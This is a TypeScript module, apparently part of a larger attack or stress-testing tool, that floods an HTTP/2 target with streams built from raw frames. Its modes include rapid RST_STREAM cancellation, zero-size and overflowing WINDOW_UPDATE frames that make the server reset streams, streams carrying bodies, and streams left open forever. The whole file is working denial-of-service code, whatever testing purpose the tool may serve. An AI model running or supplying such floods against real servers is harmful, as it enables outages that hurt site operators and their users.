import { data, headers, rstStream, TYPE, windowUpdate } from '../../raw-http/http2-frames.ts'
import type { RawHttp2 } from '../../raw-http/raw-http2.ts'
import type { AttackTarget, Report } from '../attack.ts'
import { Crowd } from '../crowd.ts'
import { type FloodOptions, flood } from './flood.ts'

const BATCH = 50
const MOST_WINDOW = 0x7fffffff

/**
 * Each opens a stream and wants it ended at once: `cancel` by RST_STREAM, `zero` and `overflow` by a WINDOW_UPDATE that
 * makes the server reset it; `body` sends a body with it. `unending` never ends one, whatever number the server allows.
 */
export type StreamFlood = 'cancel' | 'zero' | 'overflow' | 'body' | 'unending'

/** Streams as fast as the connection takes them. */
export async function floodStreams(
  target: AttackTarget,
  { kind, ...options }: FloodOptions & { kind: StreamFlood },
): Promise<Report> {
  const crowd = new Crowd(target, options.signal)
  const count = await flood(crowd, options, {
    open: () => crowd.hastyHttp2(kind === 'unending' ? { window: 0 } : {}),
    batch: (client) => {
      const frames = Array.from({ length: BATCH }, () => streamOf(client, target, kind)).flat()
      return { bytes: Buffer.concat(frames), things: BATCH }
    },
  })
  return { ...count, answered: crowd.frames(TYPE.headers), reset: crowd.frames(TYPE.rstStream) }
}

function streamOf(client: RawHttp2, target: AttackTarget, kind: StreamFlood): Buffer[] {
  const stream = client.newStream()
  const block = client.block(stream % 4 === 1 ? target.blob : target.manifest)
  switch (kind) {
    case 'cancel':
      return [headers(stream, block), rstStream(stream)]
    case 'zero':
      return [headers(stream, block), windowUpdate(stream, 0)]
    case 'overflow':
      return [headers(stream, block), windowUpdate(stream, MOST_WINDOW), windowUpdate(stream, MOST_WINDOW)]
    case 'body':
      return [
        headers(stream, block, { endStream: false }),
        data(stream, Buffer.alloc(16), { endStream: true }),
      ]
    case 'unending':
      return [headers(stream, block, { endStream: false })]
  }
}
